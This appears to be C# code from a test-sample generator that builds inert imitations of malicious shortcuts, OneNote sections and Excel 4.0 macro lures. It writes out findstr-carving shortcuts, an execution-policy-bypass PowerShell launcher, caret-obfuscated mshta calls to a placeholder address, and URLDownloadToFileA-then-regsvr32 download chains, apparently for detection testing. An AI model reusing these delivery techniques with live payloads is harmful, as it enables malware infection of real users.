using System.Text;

namespace Sekisho.SampleMaker.Waves;

/// <summary>The baits that are no documents with macros: shortcuts, OneNote sections, add-ins, and the workbooks' formulas.</summary>
internal static class WaveFiles
{
    /// <summary>22 April 2022: a shortcut that looks for lines in itself, writes them to a script and starts it. What hangs behind it is a comment.</summary>
    public static byte[] FindstrShortcut(Chance c, string name)
    {
        var marker = c.Letters(c.Number(6, 14));
        var script = c.Letters(8);
        var arguments = c.Pick(
            $"/v:on /c {c.Letters(6)}&findstr \"{marker}.*\" \"{name}.lnk\" > \"%tmp%\\{script}.vbs\" & \"%tmp%\\{script}.vbs\"",
            $"/c cd %temp% & findstr /b {marker} {name}.lnk > {script}.vbs & wscript {script}.vbs",
            $"/c \"findstr {marker} \"{name}.lnk\" >> %temp%\\{script}.vbs & start %temp%\\{script}.vbs\"");
        var lines = string.Concat(Enumerable.Range(0, 12).Select(i => $"'{marker} inert line {i} {c.Code(40)}\r\n"));
        return CarrierWriter.Shortcut(c.Pick(@"%windir%\system32\cmd.exe", @"C:\Windows\System32\cmd.exe"), arguments, Encoding.ASCII.GetBytes(lines));
    }

    /// <summary>26 April 2022: a shortcut that makes a PowerShell script of base64 behind a hundred blanks. What it encodes is an assignment and a comment.</summary>
    public static byte[] PowerShellShortcut(Chance c, string name)
    {
        var script = c.Letters(10);
        var links = string.Join(',', Enumerable.Range(0, 6).Select(_ => $"\"{Addresses.Dropped(c)}\""));
        var code = Convert.ToBase64String(Encoding.ASCII.GetBytes($"$ProgressPreference=\"SilentlyContinue\";$links=({links});#inert: nothing is fetched, nothing is run"));
        var arguments = $"-command Out-String -InputObject \"{name}.lnk\"{new string(' ', c.Number(100, 240))}| Out-Null; [System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String('{code}')) > \"%TEMP%\\{script}.ps1\"; powershell -executionpolicy bypass -file \"%TEMP%\\{script}.ps1\"; Remove-Item -Force \"%TEMP%\\{script}.ps1\"";
        return CarrierWriter.Shortcut(@"%SystemRoot%\System32\WindowsPowerShell\v1.0\powershell.exe", arguments);
    }

    /// <summary>16 March 2023: a OneNote section with pictures over a script.</summary>
    public static byte[] OneNote(Chance c, string scriptName)
    {
        var script = scriptName.EndsWith(".wsf", StringComparison.Ordinal)
            ? $"<job id=\"{c.Word()}\">\r\n<script language=\"VBScript\">\r\n' inert sample {c.Code(60)}\r\n</script>\r\n</job>\r\n"
            : $"rem inert sample {c.Code(60)}\r\n";
        byte[] png = [0x89, .. "PNG\r\n\u001a\n"u8, 0, 0, 0, 13, .. "IHDR"u8, .. c.Octets(c.Number(4000, 9000))];
        byte[] gif = [.. "GIF89a"u8, .. c.Octets(c.Number(1000, 4000))];
        return [.. CarrierWriter.OneNote(scriptName, Encoding.ASCII.GetBytes(script)), .. Store(png), .. Store(gif), .. Encoding.Unicode.GetBytes("Double Click View to open")];
    }

    /// <summary>April 2022: an Excel add-in, which is a Windows library; here only its head, which cannot run.</summary>
    public static byte[] AddIn(Chance c)
    {
        byte[] library = [.. Samples.Program(), .. c.Octets(c.Number(2000, 9000))];
        library[0x96] = 0x02; // characteristics: executable,
        library[0x97] = 0x20; // library (PE format, section 3.3.2).
        return library;
    }

    /// <summary>December 2021: mshta with carets.</summary>
    public static IReadOnlyList<string> MshtaFormulas(Chance c)
    {
        var address = $"http://192.0.2.{c.Number(1, 254)}/{c.Letters(2)}/{c.Letters(c.Number(2, 4))}.{c.Pick("html", "png")}";
        var command = new StringBuilder("cmd /c ");
        foreach (var letter in $"mshta {address}")
        {
            command.Append(c.Percent(45) && letter != ' ' ? "^" : "").Append(letter);
        }

        var name = c.Letters(5).ToUpperInvariant();
        return [$"SET.NAME(\"{name}\",\"{command}\")", $"EXEC({name})", "HALT()"];
    }

    /// <summary>March to November 2022: downloads tried one after the other, then regsvr32.</summary>
    public static IReadOnlyList<string> DownloadFormulas(Chance c, bool isNumbered)
    {
        var formulas = new List<string>();
        var kind = c.Percent(85) ? "JJCCBB" : "JJCCBB"[..4];
        var drop = c.Letters(c.Number(2, 6));
        var count = c.Number(3, 6);
        for (var i = 0; i < count; i++)
        {
            var file = isNumbered ? $"..\\{drop}{i + 1}.{c.Pick("ocx", "ooccxx")}" : $"..\\{drop}.{c.Pick("ocx", "dll")}";
            var call = $"CALL(\"urlmon\",\"URLDownloadToFileA\",\"{kind}\",0,{Split(c, Addresses.Dropped(c))},\"{file}\",0,0)";
            formulas.Add(i == 0 || isNumbered ? "=" + call : $"=IF(HRHRE{i}<0, {call})");
            if (isNumbered)
            {
                formulas.Add($"=EXEC(\"C:\\Windows\\System32\\regsvr32.exe {c.Pick("/S ", "-s ", "")}{file}\")");
            }
            else if (i == count - 1)
            {
                formulas.Add($"=IF(HRHRE{count}<0, CLOSE(0),)");
                formulas.Add(c.Percent(85) ? $"=EXEC(\"C:\\Windows\\System32\\regsvr32.exe {c.Pick("/S ", "-s ", "")}{file}\")" : $"=EXEC(\"rundll32 {file},D\"&\"l\"&\"lR\"&\"egister\"&\"Serve\"&\"r\")");
            }
        }

        return [.. formulas, "=RETURN()"];
    }

    private static string Split(Chance c, string address) => c.Percent(60) ? $"\"{address}\"" : $"\"{address[..2]}\"&\"{address[2..4]}\"&\"{address[4..9]}\"&\"{address[9..]}\"";

    private static byte[] Store(byte[] content) => [.. new Guid("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").ToByteArray(), .. BitConverter.GetBytes((long)content.Length), .. new byte[12], .. content];
}
